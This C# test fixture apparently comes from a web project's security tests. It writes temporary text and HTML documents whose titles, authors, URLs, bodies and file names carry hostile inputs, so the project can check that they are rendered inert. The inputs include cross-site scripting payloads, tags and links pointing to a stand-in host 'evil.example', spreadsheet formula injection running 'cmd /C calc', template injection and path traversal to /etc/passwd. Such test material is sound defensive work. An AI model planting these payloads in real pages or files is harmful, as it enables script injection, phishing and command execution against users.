using System.Globalization;
using System.Text;

namespace Entente.Web.Tests.Hostile;

/// <summary>Documents that want to be more than text, in every place that a page shows: title, outlet, address, speaker, quotation, body, file name.</summary>
public static class HostileDocuments
{
    /// <summary>What would set <c>window.__hit</c>, ask another host, leave its place, or turn the line around it.</summary>
    public static readonly string[] Attacks =
    [
        "<script>window.__hit=1</script>",
        "<ScRiPt src=http://evil.example/a.js></sCrIpT>",
        "<img src=x onerror=\"window.__hit=1\">",
        "<img src=http://evil.example/pixel.png>",
        "\"><svg onload=window.__hit=1>",
        "'><details open ontoggle=window.__hit=1>",
        "\" autofocus onfocus=\"window.__hit=1",
        "' onmouseover='window.__hit=1",
        "</title><script>window.__hit=1</script>",
        "</textarea></style><style>*{background:url(http://evil.example/)}</style>",
        "</mark></p></blockquote><h1>Guilty</h1>",
        "<template><script>window.__hit=1</script></template>",
        "<iframe srcdoc=\"<script>parent.__hit=1</script>\"></iframe>",
        "<meta http-equiv=\"refresh\" content=\"0;url=http://evil.example/\">",
        "<base href=\"http://evil.example/\">",
        "<form action=http://evil.example/><button>Sign in</button></form>",
        "<a href=\"javascript:window.__hit=1\">more</a>",
        "<a href=\"data:text/html,<script>window.__hit=1</script>\">more</a>",
        "<math><mtext></mtext><mglyph><style><img src onerror=window.__hit=1></style></mglyph></math>",
        "<!--><script>window.__hit=1</script-->",
        "--><b>", "]]><b>", "<![CDATA[<b>",
        "&lt;script&gt;window.__hit=1&lt;/script&gt;",
        "&amp;lt;script&amp;gt;window.__hit=1&amp;lt;/script&amp;gt;",
        "&#60;img src=x onerror=window.__hit=1&#62;",
        "\u202eyldneirf sdrow esrever\u202c", "\u2066left open", "\u200f\u061cmarks\u200b\ufeff",
        "nul\0and\u0001\u001b[31mbell\a",
        "\"},{\"problem\":\"none\"}]", "\\\",\\u003cscript\\u003e", "\u2028\u2029",
        "=HYPERLINK(\"http://evil.example\",\"more\")", "@SUM(1+1)*cmd|' /C calc'!A0", ",\"a\",\"b\"",
        "{{7*7}}${7*7}@(7*7)<%=7*7%>",
        "../../../../etc/passwd", "%3Cscript%3E%00",
        "\ufffe\uffff\U0001f468\u200d\U0001f469\u200d\U0001f467", "\u0336\u0336\u0336\u0336o\u0336v\u0336e\u0336r\u0336",
    ];

    /// <summary>One without a place to break.</summary>
    public static readonly string LongWord = new('w', 4000);

    /// <summary>Writes a document for each attack into a new folder, and gives the folder.</summary>
    public static string Write()
    {
        var folder = Directory.CreateTempSubdirectory("entente-hostile-").FullName;
        var n = 0;
        foreach (var attack in Attacks.Append(LongWord))
        {
            var path = Path.Combine(folder, (n++).ToString("000", CultureInfo.InvariantCulture));
            File.WriteAllText(path + ".txt", Text(attack, n), new UTF8Encoding(false));
            File.WriteAllText(path + ".html", Page(attack, n), new UTF8Encoding(false));
        }

        foreach (var name in new[] { "\"><img src=x onerror=window.__hit=1>.txt", "' onfocus=window.__hit=1 autofocus='.txt", "\u202etxt.exe.txt", "javascript:window.__hit=1.txt", "a\nb.txt", "<script>window.__hit=1<%2fscript>.txt" })
            try { File.WriteAllText(Path.Combine(folder, name), $"A name of a file\n\n{Report("nobody", ++n)}", new UTF8Encoding(false)); }
            catch (Exception e) when (e is IOException or ArgumentException or NotSupportedException) { } // not every system has such names
        return folder;
    }

    private static string Text(string attack, int n) => $"""
        ---
        title: {attack}
        outlet: Herald {attack}
        author: {attack}
        published: 2031-03-{1 + n % 28:00}
        url: javascript:window.__hit=1//{attack}
        ---

        {attack}

        {Report(attack, n)}
        """;

    private static string Page(string attack, int n) => $"""
        <!DOCTYPE html><html><head><meta charset="utf-8"><title>{Escaped(attack)}</title><meta property="og:site_name" content="{Escaped(attack)}"><link rel="canonical" href="javascript:window.__hit=1">
        <meta property="article:published_time" content="2031-04-{1 + n % 28:00}"></head>
        <body><article><h1>{Escaped(attack)}</h1><p onclick="window.__hit=1">{Escaped(Report(attack, n + 100))}</p>{attack}</article></body></html>
        """;

    private static string Report(string attack, int n) => string.Create(CultureInfo.InvariantCulture, $"""
        Norway has delivered {1000 + n} tonnes of grain to Iceland, Ola {attack} Nordmann said on Monday. “We sent {attack} the grain,” said the Norwegian foreign minister, {attack}.

        Iceland denied that it had received any {attack} grain. {attack} told reporters in {attack} that Iceland could supply {10 + n} fishing boats to Norway in return.
        """);

    private static string Escaped(string text) => text.Replace("&", "&amp;", StringComparison.Ordinal).Replace("<", "&lt;", StringComparison.Ordinal).Replace("\"", "&quot;", StringComparison.Ordinal);
}
